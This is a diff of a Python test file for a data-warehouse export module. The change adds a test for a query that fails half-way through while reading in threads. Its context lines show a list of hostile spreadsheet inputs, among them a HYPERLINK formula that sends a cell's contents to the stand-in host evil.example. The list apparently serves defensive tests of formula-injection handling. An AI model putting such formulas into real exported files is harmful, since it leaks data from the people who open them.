@@ -6,11 +6,14 @@ import csv
 import io
 import subprocess
 import sys
+from collections.abc import Iterator
 from datetime import UTC, date, datetime
 from pathlib import Path
 from typing import Any
 
+import duckdb
 import openpyxl
+import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 from openpyxl.utils.escape import unescape
@@ -18,10 +21,12 @@ from openpyxl.utils.escape import unescape
 from warehouse.errors import QuestionError
 from warehouse.reading import workbook
 from warehouse.reading.adhoc import run_query
+from warehouse.reading.batches import Batches
 from warehouse.reading.export import export
 from warehouse.reading.workbook import sheet_names
 
 ROOT = Path(__file__).parents[3]
+HALF_WAY = "SELECT CASE WHEN n = 90000 THEN error('half-way') ELSE 'x' END AS x FROM range(100000) AS r(n)"
 HOSTILE = [
     "=1+1",
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -205,12 +210,34 @@ def test_no_file_is_overwritten_unasked(published: Path, tmp_path: Path, name: s
 
 @pytest.mark.parametrize("name", ["out.csv", "out.parquet", "out.xlsx"])
 def test_a_query_that_fails_half_way_leaves_nothing(published: Path, tmp_path: Path, name: str) -> None:
-    sql = "SELECT CASE WHEN n = 90000 THEN error('half-way') ELSE 'x' END AS x FROM range(100000) AS r(n)"
     (tmp_path / name).write_text("of yesterday", encoding="utf-8")
     with pytest.raises(QuestionError, match="half-way"):
-        export(published, [sql], tmp_path / name, force=True)
+        export(published, [HALF_WAY], tmp_path / name, force=True)
     assert [path.name for path in tmp_path.iterdir()] == [name]
     assert (tmp_path / name).read_text(encoding="utf-8") == "of yesterday"
+
+
+def test_a_query_whose_failure_is_overtaken_by_the_end_of_its_other_threads_tells_the_failure(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    asked = Batches._asked
+    readers = 0
+
+    def interrupted() -> Iterator[pa.RecordBatch]:
+        raise OSError("INTERRUPT Error: Interrupted!")
+        yield
+
+    def overtaken(batches: Batches) -> pa.RecordBatchReader:
+        nonlocal readers
+        readers += 1
+        reader = asked(batches)
+        return pa.RecordBatchReader.from_batches(reader.schema, interrupted()) if readers <= 2 else reader
+
+    monkeypatch.setattr(Batches, "_asked", overtaken)
+    with duckdb.connect() as connection, pytest.raises(QuestionError, match="half-way") as told:
+        list(Batches(connection, HALF_WAY))
+    assert "can't be written" not in str(told.value)
+    assert readers == 3
 
 
 def test_more_rows_than_excel_takes_are_told(published: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
